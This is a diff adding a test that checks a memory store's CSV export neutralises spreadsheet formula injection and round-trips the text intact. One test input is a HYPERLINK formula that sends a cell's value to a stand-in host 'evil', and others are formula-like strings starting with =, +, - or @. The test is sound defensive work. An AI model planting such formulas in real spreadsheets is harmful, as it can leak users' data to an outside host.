@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import errno
 import json
 import os
@@ -530,6 +531,24 @@ def test_an_export_of_ours_in_another_form_is_known(memory: Memory, tmp_path: Pa
         path.write_text("".join(FORMS[form][0](memory.export(ME))), encoding="utf-8")
         assert memory.import_files(ME, ImportRequest(str(path))).counts == {"reinforced": 2}
     assert len(texts(memory)) == 2
+
+
+def test_a_cell_that_a_spreadsheet_would_run_is_text_and_comes_back(
+    memory: Memory, open_memory: Callable[..., Memory], tmp_path: Path
+) -> None:
+    said = ['=HYPERLINK("http://evil/"&A1,"click") is odd.', "+49 40 1234 is the harbour office."]
+    said += ["@Ann rows on Sundays.", "- The ferry leaves at nine.", "'tis a quote, not a sum."]
+    for text in said:
+        memory.remember(ME, RememberRequest(text, speaker="@SUM(1)", tags=["=1+1"]))
+    path = tmp_path / "ours.csv"
+    path.write_text("".join(FORMS["csv"][0](memory.export(ME))), encoding="utf-8")
+    with path.open(encoding="utf-8", newline="") as rows:
+        cells = [cell for row in csv.reader(rows) for cell in row]
+    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))] == []
+    other = open_memory("other")
+    other.import_files(ME, ImportRequest(str(path)))
+    assert sorted(each["text"] for each in other.export(ME)) == sorted(said)
+    assert {(each["speaker"], *each["tags"]) for each in other.export(ME)} == {("@SUM(1)", "=1+1")}
 
 
 # What a log of Gemini CLI repeats
